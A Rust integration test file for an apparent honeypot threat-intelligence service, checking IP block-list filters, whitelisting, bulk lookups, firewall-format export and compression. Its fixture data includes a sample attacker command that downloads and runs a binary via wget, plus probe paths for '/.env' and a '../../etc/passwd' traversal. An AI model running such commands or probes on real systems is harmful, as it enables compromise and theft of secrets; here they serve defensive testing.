//! Block lists: filters, ordering, every format (loaded into real `nft` and
//! `ipset` inside a private network namespace), the whitelist, bulk check,
//! and proof that lookups leave no trace but counters.

use std::process::Command;

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::common::{TestServer, gunzip};

async fn server_with_data() -> (TestServer, String) {
    let s = TestServer::start().await;
    let (key, token) = s.key_and_sensor("free").await;
    let t = s.clock.now().0;
    let mut lines = Vec::new();
    // 80.0.0.1: brute force + malware (high score); 80.0.0.2: web scan over http;
    // 2a02:1::1: port scan only (low score); 80.0.0.3: reported only.
    for i in 0..30 {
        lines.push(json!({"ts": t + i, "src_ip": "80.0.0.1", "protocol": "ssh", "session_id": format!("a{}", i / 10), "kind": "auth", "username": "root"}));
    }
    lines.push(json!({"ts": t + 40, "src_ip": "80.0.0.1", "protocol": "ssh", "session_id": "a9", "kind": "command", "command": "wget http://x/y; chmod +x y; ./y"}));
    for (i, p) in ["/.env", "/wp-login.php", "/cgi-bin/../../etc/passwd"]
        .iter()
        .enumerate()
    {
        lines.push(json!({"ts": t + 50 + i as i64, "src_ip": "80.0.0.2", "protocol": "http", "session_id": format!("h{i}"), "kind": "http_request", "http_path": p}));
    }
    for port in 1..=6 {
        lines.push(json!({"ts": t + 60 + port, "src_ip": "2a02:1::1", "protocol": "telnet", "dst_port": port, "session_id": format!("p{port}"), "kind": "connect"}));
    }
    let body: String = lines.iter().map(|l| l.to_string() + "\n").collect();
    let r = s.send_events(&token, body).await;
    assert_eq!(r.status(), StatusCode::OK);
    let r = s
        .client
        .post(s.url("/v1/key/report"))
        .bearer_auth(&key)
        .json(&json!({"ip": "80.0.0.3", "category": "spam"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    (s, key)
}

async fn text(s: &TestServer, key: &str, q: &str) -> (StatusCode, String, String) {
    let r = s
        .client
        .get(s.url(&format!("/v1/key/blacklist?{q}")))
        .bearer_auth(key)
        .send()
        .await
        .unwrap();
    let ct = r
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default();
    (r.status(), ct, r.text().await.unwrap())
}

#[tokio::test]
async fn filters_order_and_json_shape() {
    let (s, key) = server_with_data().await;
    let (st, ct, body) = text(&s, &key, "scoreMinimum=1").await;
    assert_eq!(st, StatusCode::OK);
    assert_eq!(ct, "application/json");
    let v: Value = serde_json::from_str(&body).unwrap();
    let ips: Vec<&str> = v["data"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["ip"].as_str().unwrap())
        .collect();
    assert_eq!(ips.len(), 4);
    assert_eq!(ips[0], "80.0.0.1", "highest confidence first: {ips:?}");
    let scores: Vec<u64> = v["data"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["confidenceLevel"].as_u64().unwrap())
        .collect();
    assert!(scores.windows(2).all(|w| w[0] >= w[1]), "{scores:?}");
    assert_eq!(v["meta"]["count"], 4);
    assert_eq!(v["meta"]["scoreMinimum"], 1);
    assert_eq!(v["meta"]["limit"], 5000, "the free tier's cap");
    assert!(v["meta"]["generatedAt"].is_i64());
    let first = &v["data"][0];
    assert!(first["lastSeen"].is_i64() && first["sessions"].as_u64().unwrap() >= 3);
    assert_eq!(first["protocols"], json!(["ssh"]));

    let plain = |q: &'static str| {
        let s = &s;
        let key = key.clone();
        async move { text(s, &key, q).await.2 }
    };
    assert_eq!(
        plain("scoreMinimum=1&plaintext=true&limit=1").await,
        "80.0.0.1\n"
    );
    assert_eq!(
        plain("scoreMinimum=1&plaintext=true&ipVersion=6").await,
        "2a02:1::1\n"
    );
    assert!(
        !plain("scoreMinimum=1&plaintext=true&ipVersion=4")
            .await
            .contains(':')
    );
    assert_eq!(
        plain("scoreMinimum=1&plaintext=true&protocols=http").await,
        "80.0.0.2\n"
    );
    assert_eq!(
        plain("scoreMinimum=1&plaintext=true&protocols=ssh,telnet")
            .await
            .lines()
            .count(),
        2
    );
    assert_eq!(
        plain("scoreMinimum=1&plaintext=true&minSeverity=very_high").await,
        "80.0.0.1\n"
    );
    assert_eq!(
        plain("scoreMinimum=1&plaintext=true&minSeverity=high")
            .await
            .lines()
            .count(),
        2
    );
    assert_eq!(
        plain("scoreMinimum=100&plaintext=true").await,
        "",
        "nothing matches: empty body"
    );
    assert_eq!(
        plain("scoreMinimum=1&plaintext=true&onlyCountries=CN").await,
        "",
        "none of the addresses is in CN"
    );
    assert_eq!(
        plain("scoreMinimum=1&plaintext=true&exceptCountries=US")
            .await
            .lines()
            .count(),
        4
    );
    let (_, ct, _) = text(&s, &key, "plaintext=true").await;
    assert_eq!(ct, "text/plain; charset=utf-8");
    let csv = plain("scoreMinimum=1&format=csv").await;
    assert!(
        csv.starts_with("ip,confidence,last_seen,sessions,protocols\n80.0.0.1,"),
        "{csv}"
    );

    for bad in [
        "scoreMinimum=0",
        "scoreMinimum=101",
        "scoreMinimum=x",
        "limit=0",
        "ipVersion=5",
        "minSeverity=extreme",
        "protocols=gopher",
        "format=xml",
        "onlyAsn=ASX",
        "onlyCountries=USA",
        "plaintext=maybe",
        "setName=a%20b",
    ] {
        let (st, _, body) = text(&s, &key, bad).await;
        assert_eq!(st, StatusCode::BAD_REQUEST, "{bad}");
        let param = bad.split('=').next().unwrap();
        assert!(body.contains(param), "{bad}: {body}");
    }
}

#[tokio::test]
async fn whitelist_is_never_listed_and_flagged_in_answers() {
    let (s, key) = server_with_data().await;
    let services = s.handle().services.clone();
    services
        .whitelist_add("80.0.0.0/30", "our office")
        .await
        .unwrap();
    let (_, _, body) = text(&s, &key, "scoreMinimum=1&plaintext=true").await;
    assert_eq!(body, "2a02:1::1\n", "80.0.0.1-3 are whitelisted");
    let (_, _, body) = text(
        &s,
        &key,
        "scoreMinimum=1&plaintext=true&ignoreWhitelist=true",
    )
    .await;
    assert_eq!(body.lines().count(), 4);
    let v: Value = s
        .client
        .get(s.url("/v1/key/check/80.0.0.1"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(v["isWhitelisted"], true);
    assert_eq!(v["confidenceLevel"], 0);
    assert_eq!(v["scoreExplanation"]["whitelistDiscount"], true);
    let v: Value = s
        .client
        .get(s.url("/v1/key/check/80.0.0.1?ignoreWhitelist=true"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert!(v["confidenceLevel"].as_u64().unwrap() >= 60);
    assert!(services.whitelist_add("not-a-net", "x").await.is_err());
    assert!(services.whitelist_add("10.0.0.0/33", "x").await.is_err());
    assert!(services.whitelist_add("10.0.0.0/8", "").await.is_err());
    services.whitelist_remove("80.0.0.0/30").await.unwrap();
    assert!(services.whitelist_remove("80.0.0.0/30").await.is_err());
    let (_, _, body) = text(&s, &key, "scoreMinimum=1&plaintext=true").await;
    assert_eq!(body.lines().count(), 4);
}

/// Runs `script` in a private network namespace; None when the tools are
/// missing outside CI (CI installs them, and there a missing tool fails).
pub fn in_netns(tool: &str, script: &str) -> Option<std::process::Output> {
    let present = Command::new("sh")
        .args(["-c", &format!("command -v {tool} && command -v unshare")])
        .output()
        .unwrap()
        .status
        .success();
    if !present {
        assert!(
            std::env::var_os("CI").is_none(),
            "{tool} must be installed in CI"
        );
        eprintln!("skipped: {tool} is not installed");
        return None;
    }
    Some(
        Command::new("unshare")
            .args(["-n", "sh", "-c", script])
            .output()
            .unwrap(),
    )
}

#[tokio::test]
async fn ipset_and_nft_files_load_into_the_real_tools() {
    let (s, key) = server_with_data().await;
    let dir = tempfile::tempdir().unwrap();
    let (_, _, nft) = text(
        &s,
        &key,
        "scoreMinimum=1&format=nft&table=sikkertest&setName=block",
    )
    .await;
    let nft_file = dir.path().join("list.nft");
    std::fs::write(&nft_file, &nft).unwrap();
    if let Some(out) = in_netns(
        "nft",
        &format!(
            "nft -f {f} && nft -f {f} && nft list table inet sikkertest",
            f = nft_file.display()
        ),
    ) {
        let listing = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success(),
            "{}\n{nft}",
            String::from_utf8_lossy(&out.stderr)
        );
        for ip in ["80.0.0.1", "80.0.0.2", "80.0.0.3", "2a02:1::1"] {
            assert!(listing.contains(ip), "{ip} missing from\n{listing}");
        }
    }
    let (_, _, ipset) = text(&s, &key, "scoreMinimum=1&format=ipset&setName=sikkertest").await;
    let ipset_file = dir.path().join("list.ipset");
    std::fs::write(&ipset_file, &ipset).unwrap();
    if let Some(out) = in_netns(
        "ipset",
        &format!(
            "ipset restore < {f} && ipset restore < {f} && ipset list sikkertest && ipset list sikkertest6",
            f = ipset_file.display()
        ),
    ) {
        let listing = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success(),
            "{}\n{ipset}",
            String::from_utf8_lossy(&out.stderr)
        );
        for ip in ["80.0.0.1", "80.0.0.3", "2a02:1::1"] {
            assert!(listing.contains(ip), "{ip} missing from\n{listing}");
        }
    }
    // An empty list is still a valid file for both tools.
    let (_, _, empty) = text(&s, &key, "scoreMinimum=100&format=nft&table=sikkerempty").await;
    std::fs::write(&nft_file, &empty).unwrap();
    if let Some(out) = in_netns("nft", &format!("nft -f {}", nft_file.display())) {
        assert!(
            out.status.success(),
            "{}\n{empty}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

#[tokio::test]
async fn bulk_check_many_ips() {
    let (s, _) = server_with_data().await;
    // 10,000 lookups in one request need more than the free tier's day.
    let key = s
        .handle()
        .services
        .create_api_key("bulk", "unlimited", None)
        .await
        .unwrap()
        .0;
    let body = "IP Address\n80.0.0.1\n\n8.8.8.8, some note\nnot-an-ip\n2a02:1::1\n";
    let r = s
        .client
        .post(s.url("/v1/key/bulk-check-inline"))
        .bearer_auth(&key)
        .header("content-type", "text/plain")
        .body(body)
        .send()
        .await
        .unwrap();
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["queried"], 3);
    assert_eq!(v["found"], 2);
    assert_eq!(
        v["results"][1],
        json!({"ip": "8.8.8.8", "found": false, "confidenceLevel": null, "isWhitelisted": false, "countryCode": "US", "lastSeen": null})
    );
    assert!(v["results"][0]["lastSeen"].is_i64());
    assert_eq!(v["errors"][0]["line"], 5);
    let r = s
        .client
        .post(s.url("/v1/key/bulk-check"))
        .bearer_auth(&key)
        .json(&json!({"ips": ["80.0.0.2", 7]}))
        .send()
        .await
        .unwrap();
    let v: Value = r.json().await.unwrap();
    assert_eq!(
        (v["queried"].as_u64(), v["found"].as_u64()),
        (Some(1), Some(1))
    );
    let many: String = (0..10_001)
        .map(|i| format!("9.{}.{}.1\n", i / 256, i % 256))
        .collect();
    let r = s
        .client
        .post(s.url("/v1/key/bulk-check-inline"))
        .bearer_auth(&key)
        .body(many)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let ten_k: String = (0..10_000)
        .map(|i| format!("9.{}.{}.1\n", i / 256, i % 256))
        .collect();
    let r = s
        .client
        .post(s.url("/v1/key/bulk-check-inline"))
        .bearer_auth(&key)
        .body(ten_k)
        .send()
        .await
        .unwrap();
    assert_eq!(r.json::<Value>().await.unwrap()["queried"], 10_000);
}

#[tokio::test]
async fn lookups_leave_nothing_but_counters() {
    let (mut s, key) = server_with_data().await;
    let key_id = s.handle().services.list_api_keys().unwrap()[0].id;
    let probes = ["93.184.216.34", "151.101.1.69", "2606:4700::6810:85e5"];
    for ip in probes {
        let r = s
            .client
            .get(s.url(&format!("/v1/key/check/{ip}")))
            .bearer_auth(&key)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK);
    }
    let r = s
        .client
        .post(s.url("/v1/key/bulk-check-inline"))
        .bearer_auth(&key)
        .body(probes.join("\n"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let r = s
        .client
        .get(s.url("/v1/key/username/secret-probe-name"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    let services = s.handle().services.clone();
    assert_eq!(
        services
            .usage_today(key_id, sikker::service::quotas::Bucket::Lookups)
            .await
            .unwrap(),
        7
    );
    drop(services);
    let data = s.data_dir.clone();
    s.stop().await; // flushes counters and closes the database
    let db = std::fs::read(data.join("sikker.redb")).unwrap();
    let has = |needle: &[u8]| db.windows(needle.len()).any(|w| w == needle);
    for ip in probes {
        let k = sikker::domain::IpKey::from_ip(ip.parse().unwrap()).0;
        assert!(!has(ip.as_bytes()), "{ip} appears as text in the database");
        assert!(
            !has(&k.to_le_bytes()) && !has(&k.to_be_bytes()),
            "{ip} appears as a key in the database"
        );
    }
    assert!(!has(b"secret-probe-name"));
    // The counters themselves were persisted.
    let opened = sikker::store::Store::open(&data.join("sikker.redb")).unwrap();
    let day = crate::common::T0.day();
    let n = opened
        .store
        .read_blocking(|t| sikker::store::usage::get(t, key_id, day, 1))
        .unwrap();
    assert_eq!(n, 7);
}

/// More lists at once than the server builds at a time (one per core):
/// every request waits for its turn and gets the same answer as alone.
#[tokio::test]
async fn lists_asked_at_once_all_get_their_answer() {
    let (s, key) = server_with_data().await;
    let paths = [
        "/v1/key/blacklist?scoreMinimum=1",
        "/v1/key/blacklist?scoreMinimum=1&plaintext=true",
        "/api/v2/blacklist?confidenceMinimum=25",
    ];
    let get = |path: &'static str| {
        let (client, url, key) = (s.client.clone(), s.url(path), key.clone());
        async move {
            let r = client
                .get(url)
                .bearer_auth(&key)
                .header("Key", &key)
                .send()
                .await
                .unwrap();
            let status = r.status();
            let tag = r
                .headers()
                .get("etag")
                .map(|v| v.to_str().unwrap().to_owned());
            (path, status, tag, r.text().await.unwrap())
        }
    };
    let mut alone = Vec::new();
    for p in paths {
        alone.push(get(p).await);
    }
    let many = futures_util::future::join_all((0..16).map(|i| get(paths[i % paths.len()]))).await;
    for (path, status, tag, body) in many {
        let (_, _, want_tag, want) = alone.iter().find(|a| a.0 == path).unwrap();
        assert_eq!(status, StatusCode::OK, "{path}: {body}");
        assert_eq!(&tag, want_tag, "{path}");
        if path.starts_with("/api/v2") {
            // Upstream's list carries the time it was generated.
            let data = |b: &str| serde_json::from_str::<Value>(b).unwrap()["data"].clone();
            assert_eq!(data(&body), data(want), "{path}");
        } else {
            assert_eq!(&body, want, "{path}");
        }
    }
}

/// Block lists hold their entries until sent, so they share a memory
/// budget (`--blocklist-memory-mib`). With room for one list of this index
/// at a time: a second list waits while the first is held by a client
/// that does not read it, gets 503 with `Retry-After` in each dialect when
/// no room frees in time, and is served as soon as the first client goes.
#[tokio::test]
async fn lists_wait_for_memory_held_by_lists_being_sent() {
    let s = TestServer::start_with(&[
        "--blocklist-memory-mib",
        "1",
        "--request-timeout",
        "3s",
        "--idle-timeout",
        "30s",
    ])
    .await;
    let (key, token) = s.key_and_sensor("tier_4").await;
    // More addresses than 1 MiB of 48-byte entries (21,845).
    let n = 22_000_u32;
    let ips: Vec<(String, usize)> = (0..n)
        .map(|i| (std::net::Ipv4Addr::from(0x5100_0000 + i).to_string(), 1))
        .collect();
    for batch in ips.chunks(10_000) {
        s.attack(&token, batch).await;
    }
    let ask = |path: &str| {
        s.client
            .get(s.url(path))
            .bearer_auth(&key)
            .header("Key", &key)
            .send()
    };
    let sikker = "/v1/key/blacklist?scoreMinimum=1";
    // (Its scores are too low for AbuseIPDB's minimum of 25: an empty list
    // still takes room for a scan of the whole index.)
    let abuseipdb = "/api/v2/blacklist?confidenceMinimum=25";
    // Alone, a list is served whole.
    let whole = ask(sikker).await.unwrap();
    assert_eq!(whole.status(), StatusCode::OK);
    let whole: Value = whole.json().await.unwrap();
    assert_eq!(whole["data"].as_array().unwrap().len(), n as usize);

    // A client that reads the head and then nothing: 3.6 MB of JSON stay
    // unsent, its entries held.
    let held = ask(sikker).await.unwrap();
    assert_eq!(held.status(), StatusCode::OK);
    for (path, error) in [(sikker, "/error"), (abuseipdb, "/errors/0/detail")] {
        let r = ask(path).await.unwrap();
        assert_eq!(r.status(), StatusCode::SERVICE_UNAVAILABLE, "{path}");
        let retry = crate::common::retry_after(&r);
        assert!(retry >= 1, "{path}");
        let body: Value = r.json().await.unwrap();
        let said = body
            .pointer(error)
            .and_then(Value::as_str)
            .unwrap_or_default();
        assert!(said.contains("too many block lists"), "{path}: {body}");
    }

    // A list asked while the room is held waits for it, and is served
    // once the holder's connection is gone.
    let waiting = tokio::spawn(ask("/v1/key/blacklist?scoreMinimum=1&plaintext=true"));
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    assert!(!waiting.is_finished());
    drop(held);
    let r = waiting.await.unwrap().unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(r.text().await.unwrap().lines().count(), n as usize);
    // Everything sent, the room is free again.
    let again = ask(sikker).await.unwrap();
    assert_eq!(again.status(), StatusCode::OK);
    assert_eq!(again.json::<Value>().await.unwrap(), whole);
}

/// One block-list request: status, headers, raw body bytes.
async fn raw(
    s: &TestServer,
    key: &str,
    path: &str,
    headers: &[(&str, &str)],
) -> (StatusCode, reqwest::header::HeaderMap, Vec<u8>) {
    let mut r = s
        .client
        .get(s.url(path))
        .bearer_auth(key)
        .header("Key", key);
    for (k, v) in headers {
        r = r.header(*k, *v);
    }
    let r = r.send().await.unwrap();
    let (status, h) = (r.status(), r.headers().clone());
    (status, h, r.bytes().await.unwrap().to_vec())
}

/// Block lists are sent gzip-compressed to clients that accept it, in
/// both dialects and every format, under their own validator; what the
/// client decompresses is exactly the identity body.
#[tokio::test]
async fn lists_are_gzip_compressed_for_clients_that_accept_it() {
    let s = TestServer::start().await;
    let (key, token) = s.key_and_sensor("tier_4").await;
    // More entries than one JSON chunk, so the body streams in several.
    let ips: Vec<(String, usize)> = (0..5000u32)
        .map(|i| (std::net::Ipv4Addr::from(0x5200_0000 + i * 3).to_string(), 1))
        .collect();
    s.attack(&token, &ips).await;
    // A few brute-forcers, scored high enough for AbuseIPDB's list.
    let ips: Vec<(String, usize)> = (0..300u32)
        .map(|i| (std::net::Ipv4Addr::from(0x5300_0000 + i).to_string(), 30))
        .collect();
    s.attack(&token, &ips).await;
    let gzip = [("accept-encoding", "br;q=1.0, gzip;q=0.8, *;q=0.1")];
    for format in ["json", "plaintext", "csv", "ipset", "nft"] {
        let path = format!("/v1/key/blacklist?scoreMinimum=1&format={format}");
        let (st, plain_h, plain) = raw(&s, &key, &path, &[]).await;
        assert_eq!(st, StatusCode::OK, "{format}");
        assert!(plain_h.get("content-encoding").is_none(), "{format}");
        assert_eq!(plain_h["vary"], "accept-encoding", "{format}");
        let (st, h, z) = raw(&s, &key, &path, &gzip).await;
        assert_eq!(st, StatusCode::OK, "{format}");
        assert_eq!(h["content-encoding"], "gzip", "{format}");
        assert_eq!(h["vary"], "accept-encoding", "{format}");
        assert!(
            z.len() * 2 < plain.len(),
            "{format}: {} of {}",
            z.len(),
            plain.len()
        );
        assert_eq!(gunzip(&z), plain, "{format}");
        // Each representation has its own tag, and each is honoured.
        let (tag, plain_tag) = (
            h["etag"].to_str().unwrap(),
            plain_h["etag"].to_str().unwrap(),
        );
        let gz_tag = format!("{}-gzip\"", plain_tag.strip_suffix('"').unwrap());
        assert_eq!(tag, gz_tag, "{format}");
        let inm = [gzip[0], ("if-none-match", tag)];
        let (st, h304, empty) = raw(&s, &key, &path, &inm).await;
        assert_eq!(st, StatusCode::NOT_MODIFIED, "{format}");
        assert!(empty.is_empty() && h304.get("content-encoding").is_none());
        assert_eq!(h304["etag"], tag);
        let (st, _, again) = raw(&s, &key, &path, &[("if-none-match", tag)]).await;
        assert_eq!((st, again.len()), (StatusCode::OK, plain.len()), "{format}");
    }
    // Declined, or outweighed by identity: not compressed.
    for refuse in ["gzip;q=0", "identity, gzip;q=0.5", "br", ""] {
        let (st, h, body) = raw(
            &s,
            &key,
            "/v1/key/blacklist?scoreMinimum=1&format=plaintext",
            &[("accept-encoding", refuse)],
        )
        .await;
        assert_eq!(st, StatusCode::OK);
        assert!(h.get("content-encoding").is_none(), "{refuse}");
        assert_eq!(String::from_utf8(body).unwrap().lines().count(), 5300);
    }
    // The AbuseIPDB dialect, JSON and plaintext.
    for path in [
        "/api/v2/blacklist?confidenceMinimum=25&limit=5000",
        "/api/v2/blacklist?confidenceMinimum=25&limit=5000&plaintext",
    ] {
        let (st, h, z) = raw(&s, &key, path, &[("accept-encoding", "gzip")]).await;
        assert_eq!(st, StatusCode::OK, "{path}");
        assert_eq!(h["content-encoding"], "gzip", "{path}");
        let (_, _, plain) = raw(&s, &key, path, &[]).await;
        let unzipped = gunzip(&z);
        if path.ends_with("plaintext") {
            assert_eq!(unzipped, plain);
        } else {
            let (a, b): (Value, Value) = (
                serde_json::from_slice(&unzipped).unwrap(),
                serde_json::from_slice(&plain).unwrap(),
            );
            assert_eq!(a["data"], b["data"]);
            assert!(!b["data"].as_array().unwrap().is_empty());
        }
    }
}
